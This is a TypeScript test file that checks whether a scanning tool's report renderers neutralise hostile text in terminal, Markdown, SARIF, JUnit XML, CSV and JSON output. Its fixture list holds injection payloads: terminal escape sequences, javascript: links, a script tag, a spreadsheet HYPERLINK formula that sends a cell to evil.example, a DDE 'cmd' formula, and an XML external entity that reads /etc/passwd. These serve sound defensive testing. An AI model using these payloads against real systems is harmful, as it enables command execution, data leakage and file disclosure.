import type { Log } from "sarif";
import stringWidth from "string-width";
import { describe, expect, test } from "vitest";
import { renderCsv } from "../../src/report/csv.ts";
import { renderJson } from "../../src/report/json.ts";
import { renderJunit } from "../../src/report/junit.ts";
import { renderMarkdown } from "../../src/report/markdown.ts";
import { renderSarif } from "../../src/report/sarif.ts";
import { renderTerminal } from "../../src/report/terminal.ts";
import { prose, visible } from "../../src/report/text.ts";
import type { Report } from "../../src/resources/generated.ts";
import { violations } from "../../src/resources/validate.ts";
import { aFullReport, aReport, grouped } from "./build.ts";
import { casesOf, linesOf } from "./read.ts";
import { faults } from "./validators.ts";

const hostile: [string, string][] = [
  ["an ANSI escape", "\u001b[2J\u001b]0;owned\u0007\u001b[31mred"],
  ["an 8-bit escape", "\u009b31m\u009d0;owned\u009c"],
  ["line breaks", "first\nPASSED: nothing found\r\nsecond\rthird\u2028fourth\u2029fifth\u0085sixth\u000bseventh"],
  ["a Markdown link", "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>"],
  ["escaped Markdown", "[a\\](b) [a\\\\](b) `code` | table | <script>alert(1)</script>"],
  ["reading order turned", "user\u202excod.exe\u2066\u2069\u200f"],
  ["lone surrogates", "a\ud800b\udc00c\ud800"],
  ["characters that take no room", "ad\u200bmin\u00ad\ufeff\u2060\u{e0041}\u3164"],
  ["marks piled up", `z${"\u0301".repeat(5_000)}`],
  ["places to fill in", "{0} {1} {{2}} {r.name}"],
  ["NUL and DEL", "a\u0000b\u007fc\b\b\b"],
  ["noncharacters", "\ufffe\uffff\u{1ffff}"],
  ["nothing", ""],
  ["only spaces", "  \t "],
  ["a formula", '=HYPERLINK("https://evil.example/?"&A1;"open")'],
  ["a formula behind room", "\t +1+cmd|' /C calc'!A0"],
  ["the end of CDATA and an entity", "]]></failure><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;"],
  ["very long", "x".repeat(100_000)],
  ["very long and wide", "資".repeat(100_000)],
  ["__proto__", "__proto__"],
];

/** A report in which everything that comes from outside is this text. */
function hostileReport(text: string): Report {
  const report = aFullReport();
  for (const finding of report.findings) {
    finding.message = text;
    finding.rationale = text;
    finding.remediation = { text, command: text };
    finding.key = text;
    finding.owner = text;
    finding.resource.name = text;
    finding.resource.id = text;
    finding.trace = [{ expression: text, value: text }];
    finding.location = { file: text, line: 1, column: 1, by: "name" };
  }
  for (const policy of report.policies) {
    policy.title = text;
    policy.help = { rationale: text, remediation: { text, command: text }, references: [text] };
    policy.controls.soc2 = [text];
    policy.reasons = { [text]: text };
    policy.decided = true;
    policy.undecidedIn = [];
  }
  for (const each of report.unread) Object.assign(each, { read: text, scope: text, cause: text, permission: text });
  for (const each of report.unknown) Object.assign(each, { cause: text, examples: [text, text] });
  for (const each of report.waivers.expired) Object.assign(each, { resource: text, approvedBy: text });
  for (const each of report.vacuous) each.what = text;
  for (const each of report.leftOut) each.because = text;
  report.run.reader.id = text;
  report.run.tool.version = text;
  return grouped(report);
}

describe.each(hostile)("names and messages that hold %s", (_, text) => {
  const report = hostileReport(text);

  test("leave the terminal as it is", () => {
    for (const width of [40, 100]) {
      const options = { width, color: false, verbose: true, failOn: "high", out: text, report: text.slice(0, 255) };
      const shown = renderTerminal(report, options);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
      expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e\u2028\u2029\ufeff]/);
      expect(shown.isWellFormed()).toBe(true);
      for (const line of shown.split("\n")) expect(stringWidth(line)).toBeLessThanOrEqual(width);
      expect(shown.split("\n").filter((line) => line.startsWith("PASSED"))).toEqual([]);
      expect(shown.length).toBeLessThan(100_000);
    }
  });

  test("leave Markdown as it was laid out, with no link, picture, mention or tag of theirs", () => {
    const shown = renderMarkdown(report, { failOn: "high" });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
    expect(shown).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e\u2028\u2029\ufeff]/);
    expect(shown.isWellFormed()).toBe(true);
    expect(shown.length).toBeLessThan(200_000);
    const bare = shown.replace(/^ *(`{3,})[\s\S]*?^ *\1$/gm, "").replace(/\\[!-/:-@[-`{-~]/g, "");
    expect(
      bare.match(/<(?!\/?(?:code|details|summary|span)>|!-- -->)|\]\(|@\w|:\/\/|www\.|#\d|\$(?!<\/span>)/gi),
    ).toBeNull();
    expect(
      bare
        .split("\n")
        .filter((line) => /^#|^PASSED/.test(line))
        .every((line) => /^#{1,3} [A-Zl]/.test(line)),
    ).toBe(true);
    // Each table has as many cells in every row as it has titles.
    for (const table of bare.split(/\n(?!\|)/).map((each) => each.split("\n").filter((line) => line.startsWith("|")))) {
      expect(new Set(table.map((line) => line.split("|").length)).size).toBeLessThanOrEqual(1);
    }
  });

  test("leave SARIF as GitHub takes it", () => {
    const sarif = renderSarif(report, { environments: ["dev", "prod"] });
    expect(faults(sarif.text)).toEqual([]);
    expect(sarif.counts.results).toBe(4);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
    expect(sarif.text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2028\u2029]/);
  });

  test("leave JUnit XML well formed, with as many cases as there are", () => {
    const xml = renderJunit(report);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
    expect(xml).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u2028\u2029\ufffe\uffff]/);
    expect(casesOf(xml).filter((each) => each.result?.element === "failure")).toHaveLength(4);
  });

  test("leave the table with a line for each thing, and no cell that a spreadsheet reckons with", () => {
    const lines = linesOf(renderCsv(report));
    expect(lines).toHaveLength(report.findings.length + report.unknown.length + report.unread.length);
    for (const cell of lines.flatMap((line) => Object.values(line))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("leave report.json as its schema says", () => {
    const json = renderJson(report);
    expect(violations("report", JSON.parse(json))).toEqual([]);
    expect(json.isWellFormed()).toBe(true);
  });
});

describe("a message in SARIF", () => {
  function message(text: string): string {
    const finding = aFullReport().findings[1];
    if (finding === undefined) throw new Error("the report has no second finding");
    const sarif = renderSarif(aReport({ findings: [{ ...finding, message: text }] }), { environments: ["prod"] });
    const log = JSON.parse(sarif.text ?? "") as Log;
    return log.runs[0]?.results?.[0]?.message.text ?? "";
  }

  test.each([
    "sp-ingest can change every Synapse workspace in /subscriptions/x (Contributor on a subscription)",
    "Block warehouse-prod holds a password in data.urls[0] (a URL with a user)",
    "{{ prefect.blocks.secret.x }} in job variable env[KEY] is <not> a secret & 5 > 4",
    "domain\\user can read https://prefect.example.com/api",
    "データ基盤 – größer als „drei“ 👩‍👩‍👧‍👦",
  ])("is the finding's, to the letter: %s", (text) => {
    expect(message(text)).toBe(text);
  });

  test.each([
    ["[click](https://evil.example)", "[click\\](https://evil.example)"],
    ["[click\\](https://evil.example)", "[click\\](https://evil.example)"],
    ["[click\\\\](https://evil.example)", "[click\\\\\\](https://evil.example)"],
    ["see <javascript:alert(1)>", "see \\<javascript:alert(1)>"],
    ["{0} of {name}", "{{0}} of {{name}}"],
    ["{{0}}", "{{{{0}}}}"],
    ["one\ntwo\tthree", "one two three"],
    ["a\u001b[31m\u202eb", "a<U+001B>[31m<U+202E>b"],
  ])("cannot forge a link, a place to fill in, or a line: %j", (text, expected) => {
    expect(message(text)).toBe(expected);
  });

  test("is cut where it is very long, and never in half a character or half an escape", () => {
    const long = message(`x${"👍".repeat(10_000)}`);
    expect(long.length).toBeLessThanOrEqual(4_000);
    expect(long).toMatch(/👍…$/u);
    expect(message("](".repeat(10_000))).toMatch(/^(?:\\\]\()+\\?\]?…$/);
    expect(message("{0}".repeat(10_000)).length).toBeLessThanOrEqual(4_000);
  });
});

describe("text made visible", () => {
  test("is the same where nothing hides in it", () => {
    const text = "Größe: データ 👩‍👩‍👧‍👦 1️⃣ नमस्ते می‌خواهم ~ \\ <x> {y}";
    expect(visible(text)).toBe(text);
    expect(prose(text)).toBe(text);
  });

  test("keeps line breaks apart from spaces in a name, not in a sentence", () => {
    expect(visible("a\nb")).toBe("a<U+000A>b");
    expect(prose(" a\r\n\tb ")).toBe("a b");
  });
});
